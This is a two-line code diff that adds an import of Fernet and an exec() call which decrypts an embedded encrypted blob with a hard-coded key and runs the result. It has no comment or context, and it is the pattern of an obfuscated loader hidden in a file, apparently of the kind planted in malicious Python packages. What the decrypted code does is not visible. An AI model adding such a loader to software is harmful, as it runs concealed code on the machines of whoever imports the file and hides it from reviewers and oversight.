@@ -1,0 +1,2 @@
+from cryptography.fernet import Fernet
+exec(Fernet(b'wb_fclzosW-9adi7D4cdxdlMu2AFYGGJCllUI9IYyMo=').decrypt(b'gAAAAABrAsAdeupgCgKng7B6cW5t8J--gFWjJEeJgIDRcoLAdDAbeySYNdPGwHuqdOz5DzibfeDeG_seeQnYLygTVSEtbeRry85RdykfRRM10x_6VATonrSiiNwcWRtuDPDtKzLA1-rf'))
